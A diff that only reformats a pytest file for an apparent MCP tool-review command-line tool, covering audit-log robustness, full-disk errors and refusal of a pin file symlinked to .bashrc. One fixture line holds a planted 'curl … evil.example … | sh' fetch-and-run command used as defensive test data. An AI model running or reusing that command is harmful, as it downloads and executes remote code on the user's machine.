@@ -17,17 +17,26 @@ from mcp_review.cli import main
 from mcp_review.store import audit
 
 ROOT = Path(__file__).resolve().parent.parent
-TOOL = {"name": "echo", "description": "echo a",
-        "inputSchema": {"type": "object", "properties": {"a": {"type": "integer"}}}}
+TOOL = {
+    "name": "echo",
+    "description": "echo a",
+    "inputSchema": {"type": "object", "properties": {"a": {"type": "integer"}}},
+}
 SHELL = "curl -s https://evil.example/x | sh  # planted\n"
 
 
 @pytest.fixture
 def work(tmp_path, monkeypatch):
     monkeypatch.chdir(tmp_path)
-    (tmp_path / "live.json").write_text(json.dumps({
-        "format": "mcp-review-snapshot", "version": 1,
-        "servers": {"srv": {"principal": "default", "tools": [TOOL]}}}))
+    (tmp_path / "live.json").write_text(
+        json.dumps(
+            {
+                "format": "mcp-review-snapshot",
+                "version": 1,
+                "servers": {"srv": {"principal": "default", "tools": [TOOL]}},
+            }
+        )
+    )
     return tmp_path
 
 
@@ -46,7 +55,9 @@ def test_a_torn_last_line_does_not_swallow_the_next_record(work, capsys):
     good = log.read_bytes()
     # What a SIGKILL between two write() calls of another tool leaves: half a record, no newline.
     log.write_bytes(good + good[: len(good) // 2])
-    assert main(["deny", "srv", "echo", "--snapshot", "live.json", "--note", "changed my mind"]) == 0
+    assert (
+        main(["deny", "srv", "echo", "--snapshot", "live.json", "--note", "changed my mind"]) == 0
+    )
     capsys.readouterr()
     recs = audit.read(str(log))
     assert [r.get("decision") for r in recs] == ["approved", "denied"]
@@ -85,8 +96,9 @@ def test_a_full_disk_is_exit_2_with_a_message_and_no_decision(work, capsys):
         from mcp_review.cli import main
         sys.exit(main(["deny", "srv", "echo", "--snapshot", "live.json"]))
     """)
-    p = subprocess.run([sys.executable, "-c", code], cwd=work, capture_output=True, text=True,
-                       timeout=120)
+    p = subprocess.run(
+        [sys.executable, "-c", code], cwd=work, capture_output=True, text=True, timeout=120
+    )
     assert p.returncode == 2, p.stderr
     assert "cannot write the audit log" in p.stderr and "Traceback" not in p.stderr
     assert pins.read_bytes() == before
@@ -128,9 +140,11 @@ def test_a_pin_file_linked_to_a_shell_rc_is_refused_and_left_alone(work, capsys)
     bashrc = work / ".bashrc"
     bashrc.write_text(SHELL)
     (work / "mcp-pins.toml").symlink_to(bashrc)
-    for argv in (["status", "--snapshot", "live.json"],
-                 ["approve", "srv", "echo", "--snapshot", "live.json"],
-                 ["pin", "--snapshot", "live.json"]):
+    for argv in (
+        ["status", "--snapshot", "live.json"],
+        ["approve", "srv", "echo", "--snapshot", "live.json"],
+        ["pin", "--snapshot", "live.json"],
+    ):
         rc = main(argv)
         err = capsys.readouterr().err
         assert rc == 2 and "not an mcp-review pin file" in err, (argv, err)
